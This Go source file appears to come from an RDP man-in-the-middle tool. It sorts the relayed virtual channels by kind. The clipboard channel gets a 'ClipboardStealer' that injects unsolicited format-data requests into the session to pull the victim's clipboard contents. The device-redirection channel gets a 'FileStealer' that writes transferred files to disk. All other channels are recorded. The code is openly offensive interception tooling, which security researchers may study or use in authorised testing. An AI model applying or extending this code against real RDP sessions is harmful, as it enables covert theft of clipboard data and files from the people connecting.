package mitm

import (
	"strings"

	"github.com/GoFeGroup/rdpmitm/proto/clipboard"
	"github.com/GoFeGroup/rdpmitm/proto/virtualchannel"
	"github.com/GoFeGroup/rdpmitm/recorder"
)

// ChannelKind classifies a negotiated static virtual channel by name, the
// basis for buildChannel's dispatch, spec.md §4.7.
type ChannelKind int

const (
	ChannelKindIO ChannelKind = iota
	ChannelKindClipboard
	ChannelKindDevice
	ChannelKindUnknown
)

func classifyChannel(name string) ChannelKind {
	switch strings.ToLower(name) {
	case virtualchannel.ChannelNameCliprdr:
		return ChannelKindClipboard
	case virtualchannel.ChannelNameRdpdr:
		return ChannelKindDevice
	default:
		return ChannelKindUnknown
	}
}

// Channel is one negotiated static virtual channel the orchestrator relays.
// CLIPRDR gets the clipboard stack plus the active stealer, RDPDR gets the
// passive file stealer, everything else (including drdynvc and rdpsnd) is
// relayed raw with recording only — spec.md §4.7's buildChannel operation.
type Channel struct {
	Name      string
	ChannelID uint16
	Kind      ChannelKind

	clientToServer virtualchannel.Reassembler
	serverToClient virtualchannel.Reassembler

	clipboard *ClipboardStealer
	device    *FileStealer

	recorder *recorder.Recorder
}

// BuildChannel constructs the Channel for one negotiated static virtual
// channel. savedFilesDir is the (already session-scoped) directory RDPDR
// captures are written under.
func BuildChannel(name string, channelID uint16, rec *recorder.Recorder, savedFilesDir string) *Channel {
	ch := &Channel{
		Name:      name,
		ChannelID: channelID,
		Kind:      classifyChannel(name),
		recorder:  rec,
	}
	switch ch.Kind {
	case ChannelKindClipboard:
		ch.clipboard = NewClipboardStealer()
	case ChannelKindDevice:
		ch.device = NewFileStealer(savedFilesDir)
	}
	return ch
}

// OnClientToServerChunk processes one chunk travelling client to server.
// The chunk is always forwarded to the target unchanged by the caller;
// this only updates stealer state once reassembly completes a PDU.
func (ch *Channel) OnClientToServerChunk(chunk []byte) {
	header, body := virtualchannel.ReadChunk(chunk)
	complete, done := ch.clientToServer.Feed(header, body)
	if !done {
		return
	}

	switch ch.Kind {
	case ChannelKindClipboard:
		// Nothing to capture travelling this direction: the stealer's
		// own FormatDataResponsePDU capture happens on the reply, which
		// arrives server-to-client (see OnServerToClientChunk).
	case ChannelKindDevice:
		ch.device.ObserveRequest(complete)
	default:
		ch.recorder.RecordChannelData(complete)
	}
}

// OnServerToClientChunk processes one chunk travelling server to client.
// It returns (inject, true) when the stealer wants an extra PDU sent
// toward the server on this same channel — the clipboard stealer's
// unsolicited format-data-request — which the caller must chunk-frame
// (virtualchannel.WriteChunks) and wrap in its own MCS SendDataRequest
// before forwarding.
func (ch *Channel) OnServerToClientChunk(chunk []byte) (inject []byte, ok bool) {
	header, body := virtualchannel.ReadChunk(chunk)
	complete, done := ch.serverToClient.Feed(header, body)
	if !done {
		return nil, false
	}

	switch ch.Kind {
	case ChannelKindClipboard:
		_, pdu := clipboard.ReadMessage(complete)
		if pdu == nil {
			return nil, false
		}
		req, captured, hasCaptured := ch.clipboard.OnServerToClient(pdu)
		if hasCaptured {
			ch.recorder.RecordClipboardData(captured)
		}
		if req != nil {
			return req, true
		}
	case ChannelKindDevice:
		ch.device.ObserveCompletion(complete)
	default:
		ch.recorder.RecordChannelData(complete)
	}
	return nil, false
}
